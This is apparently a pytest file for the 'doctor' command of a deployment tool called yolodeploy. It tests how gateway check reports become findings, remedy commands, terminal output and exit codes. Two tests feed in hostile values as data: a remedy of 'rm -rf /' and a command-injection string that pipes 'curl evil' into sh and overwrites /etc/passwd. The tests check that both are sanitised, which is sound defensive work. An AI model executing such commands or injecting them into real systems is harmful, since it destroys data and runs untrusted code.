"""From what a play reports to what a person reads, without gateways."""

from __future__ import annotations

import sys
import time
from collections.abc import Callable
from typing import Any

import pytest

from tests.cli.conftest import Run, run  # noqa: F401 a fixture
from yolodeploy.inventory.connection import open_inventory
from yolodeploy.inventory.devices import Gateway, add_device, set_device_hold
from yolodeploy.inventory.operations import OperationEvent
from yolodeploy.inventory.sites import add_site, set_site_backed_up, set_site_k3s
from yolodeploy.ops.checked import Result
from yolodeploy.ops.doctor import examine
from yolodeploy.ops.home import Home
from yolodeploy.ops.site_doctor import Meant, Mend, checks_of, meant

PLANT = [Meant("plant", by_api=False, devices=())]


def event(code: str, level: str = "step", /, **fields: Any) -> OperationEvent:
    """Something that a play says."""
    return OperationEvent(1, 0.0, level, code, fields)


def report(host: str, check: str, result: str, **row: Any) -> OperationEvent:
    """A host's report of one check."""
    told = {"check": check, "result": result, "fields": {}, "blocking": False, "mend": "", **row}
    return event("play.step", host=host, report={"report": "checks", "rows": [told]})


def test_a_finding_that_is_gone_at_the_second_look_was_mended() -> None:
    """A technician wants to know what was done, not only that all is well now."""
    held = {"packages": "nvidia-driver"}
    found = checks_of("plant", (), [
        report("gw-1", "gpu_unheld", "finding", fields=held, mend="safe"),
        report("gw-1", "swap", "ok"),
        report("gw-1", "gpu_unheld", "ok", mend="safe"),
    ])  # fmt: skip
    assert [one.result for one in found] == [Result.MENDED, Result.OK]
    assert "nvidia-driver" in found[0].text("en")
    assert "nvidia-driver" in found[0].text("zh")
    assert found[0].remedy("en") == ""


def test_a_finding_that_nobody_can_tell_of_any_more_was_not_mended() -> None:
    """A server that does not come back says nothing of its cluster; that is not good news."""
    [one] = checks_of("plant", (), [
        report("gw-1", "node_cordoned", "finding", fields={"nodes": "gw-2"}, mend="asked"),
        report("gw-1", "node_cordoned", "unknown"),
    ], Mend.ALL)  # fmt: skip
    assert one.result is Result.FINDING
    assert one.remedy("en") == "k3s kubectl uncordon gw-2"


@pytest.mark.parametrize(("mend", "ending"), [("safe", "--fix"), ("asked", "--fix --yes")])
def test_what_doctor_can_mend_names_doctor(mend: str, ending: str) -> None:
    [one] = checks_of("plant", (), [report("gw-1", "swap", "finding", mend=mend)])
    assert one.remedy("en") == f"yolodeploy doctor plant/gw-1 {ending}"


@pytest.mark.parametrize(
    ("kind", "mend", "ending"),
    [
        ("safe", Mend.SAFE, "/etc/modules-load.d/yolodeploy-doctor.conf"),
        ("asked", Mend.SAFE, "--fix --yes"),
        ("asked", Mend.ALL, "/etc/modules-load.d/yolodeploy-doctor.conf"),
    ],
)
def test_what_could_not_be_mended_names_what_a_person_does(
    kind: str, mend: Mend, ending: str
) -> None:
    """Else they are told to run the same command for ever."""
    lacks = report("gw-1", "modules_unloaded", "finding", fields={"modules": "vxlan"}, mend=kind)
    [one] = checks_of("plant", (), [lacks, lacks], mend)
    assert one.result is Result.FINDING
    assert one.remedy("en").endswith(ending)


def test_a_device_that_was_not_looked_at_is_a_finding_with_the_reason() -> None:
    found = checks_of("plant", (), [
        report("gw-1", "swap", "ok"),
        event("ssh.unreachable", "error", device="gw-2", reason="timed out", address="10.0.0.2"),
        event("play.host", host="gw-1", state="ok", reason="", code=""),
        event("play.host", host="gw-2", state="unreachable", reason="timed out", code="x"),
        event("play.host", host="gw-3", state="failed", reason="no space left", code="x"),
    ])  # fmt: skip
    assert [(one.device, one.check) for one in found] == [
        ("gw-1", "swap"), ("gw-2", "reach"), ("gw-3", "look"),
    ]  # fmt: skip
    assert "timed out" in found[1].text("en")
    assert "no space left" in found[2].text("en")
    assert all(one.remedy("zh") for one in found[1:])


def test_a_narrow_terminal_shows_line_below_line(
    monkeypatch: pytest.MonkeyPatch,
    run: Run,  # noqa: F811
) -> None:
    """A table of sentences breaks at 80 columns, and nobody finds the command in it."""
    found = [report("gw-1", "swap", "finding", fields={"places": "/dev/mmcblk0p3"})]
    monkeypatch.setattr("yolodeploy.cli.doctor_gateways.meant", lambda *_: PLANT)
    monkeypatch.setattr("yolodeploy.cli.doctor_gateways.start_doctor", lambda *_, **__: "op-1")
    monkeypatch.setattr("yolodeploy.cli.doctor_gateways._followed", lambda *_: found)
    piped = run("doctor", "plant").out.splitlines()
    assert piped[0].startswith("DEVICE")
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
    monkeypatch.setenv("COLUMNS", "80")
    told = run("doctor", "plant").out.splitlines()
    assert told[0] == "gw-1  swap  warning"
    assert told[1].startswith("  it swaps to /dev/mmcblk0p3; ")
    assert told[2].startswith("  mend it with: swapoff --all && ")
    monkeypatch.setenv("COLUMNS", "400")
    assert run("doctor", "plant").out.splitlines() == piped


@pytest.mark.parametrize(
    ("states", "code"), [(("unreachable",), 3), (("unreachable", "failed"), 1), (("ok",), 0)]
)
def test_the_exit_code_tells_what_is_wrong_from_who_is_away(
    monkeypatch: pytest.MonkeyPatch,
    run: Run,  # noqa: F811
    home: Home,
    states: tuple[str, ...],
    code: int,
) -> None:
    ends = [event("play.host", host=f"gw-{n}", state=s, reason="-") for n, s in enumerate(states)]
    monkeypatch.setattr("yolodeploy.cli.doctor_gateways.meant", lambda *_: PLANT)
    monkeypatch.setattr("yolodeploy.cli.doctor_gateways.start_doctor", lambda *_, **__: "op-1")
    monkeypatch.setattr("yolodeploy.cli.doctor_gateways._followed", lambda *_: ends)
    assert run("doctor", "plant", "-o", "json").code == code


def test_what_is_no_report_is_left_out() -> None:
    """A gateway says what it likes: no traceback, no check of its own making, no escapes."""
    said: list[Any] = [
        None, [], {"check": "swap"}, {"check": ["swap"], "result": "ok", "fields": {}},
        {"check": "{x:99999999999}", "result": "finding", "fields": {}, "mend": []},
        {"check": "swap", "result": "fine", "fields": {}},
        {"check": "swap", "result": ["ok"], "fields": {}},
        {"check": "swap", "result": "finding", "fields": {"places": "\x1b[2J\n" * 4000},
         "mend": "rm -rf /"},
    ]  # fmt: skip
    events = [
        event("play.step", host="gw-1", report={"report": "checks", "rows": rows})
        for rows in (said, "rows", None, 7)
    ]
    [one] = checks_of("plant", (), events)
    text = one.text("en") + one.remedy("en")
    assert (one.check, one.mend, one.blocking) == ("swap", "", False)
    assert text.isprintable()
    assert len(text) < 5000


def test_a_remedy_that_is_pasted_runs_nothing_that_a_gateway_thought_of() -> None:
    lies = {"files": "/etc/x; curl evil | sh `id` $(id) > /etc/passwd '\"\\"}
    [one] = checks_of("plant", (), [report("gw-1", "config_mode", "finding", fields=lies)])
    assert one.remedy("en") == "chmod 600 /etc/x? curl evil ? sh ?id? ??id? ? /etc/passwd ???"
    assert "$(id)" in one.text("en"), "the finding says what was said"


def test_only_what_was_asked_about_is_shown() -> None:
    """The first server is looked at too: the others' facts are asked of it."""
    events = [report("gw-1", "swap", "ok"), report("gw-2", "swap", "ok")]
    assert [one.device for one in checks_of("plant", ("gw-2",), events)] == ["gw-2"]


@pytest.fixture
def plant(home: Home) -> Callable[..., None]:
    """Makes a k3s site: `plant(2)` has two servers."""

    def make(servers: int = 1, agents: int = 1) -> None:
        with open_inventory(home.inventory) as inventory, inventory.transaction():
            add_site(inventory, "plant", "k3s", "", at=time.time())
            for number in range(servers + agents):
                role = Gateway(role="server" if number < servers else "agent")
                name, address = f"gw-{number}", f"root@127.0.0.{number + 2}"
                add_device(inventory, "plant", name, address, at=time.time(), gateway=role)

    return make


def test_names_are_sites_and_devices(home: Home, plant: Callable[..., None]) -> None:
    plant()
    assert meant(home, ["gw-1", "plant/gw-1"]) == [("plant", False, ("gw-1",))]
    whole = [("plant", False, ())]
    assert meant(home, ["gw-1", "plant"]) == meant(home, ["plant", "gw-1"]) == whole


@pytest.mark.parametrize(
    ("words", "code"),
    [(["nosuch"], 1), (["plant/nosuch"], 1), (["--fix"], 2), (["gw-1", "nosuch"], 1)],
)
def test_what_cannot_be_meant_is_two_lines(
    home: Home,
    run: Run,  # noqa: F811
    plant: Callable[..., None],
    words: list[str],
    code: int,
) -> None:
    plant()
    answer = run("doctor", *words)
    assert answer.code == code
    assert len(answer.err.splitlines()) == 2
    assert answer.out == ""


def test_an_embedded_site_has_no_gateways(
    run: Run,  # noqa: F811
    sites: Callable[..., list[str]],
) -> None:
    [name] = sites(1)
    assert run("doctor", name).code == 1


def test_a_held_device_is_looked_at_and_not_mended(
    home: Home,
    run: Run,  # noqa: F811
    plant: Callable[..., None],
) -> None:
    plant()
    with open_inventory(home.inventory) as inventory:
        set_device_hold(inventory, "plant", "gw-1", "shift", at=time.time())
    refused = run("doctor", "gw-1", "--fix")
    assert refused.code == 1
    assert "shift" in refused.err


def findings(home: Home) -> set[str]:
    """The codes of what is wrong here."""
    return {error.code for one in examine(home) for error in one.findings} - {"doctor.disk"}


def test_a_damaged_inventory_is_one_finding_and_said_once(home: Home) -> None:
    home.create().inventory.write_bytes(b"noise" * 2000)
    (told,) = [error for one in examine(home) for error in one.findings
               if error.code != "doctor.disk"]  # fmt: skip
    assert told.text().count("is damaged") == 1
    assert "rollouts" not in {one.check for one in examine(home)}, "nobody could look"


def test_what_is_known_of_k3s_sites_is_told_without_asking_them(
    home: Home, plant: Callable[..., None]
) -> None:
    plant(2)
    assert findings(home) == {"doctor.site_servers", "doctor.site_unproved"}
    with open_inventory(home.inventory) as inventory:
        set_site_k3s(inventory, "plant", "v1.36.2+k3s1")
        assert "doctor.site_backup" in findings(home)
        set_site_backed_up(inventory, "plant", at=time.time())
        assert "doctor.site_backup" not in findings(home)
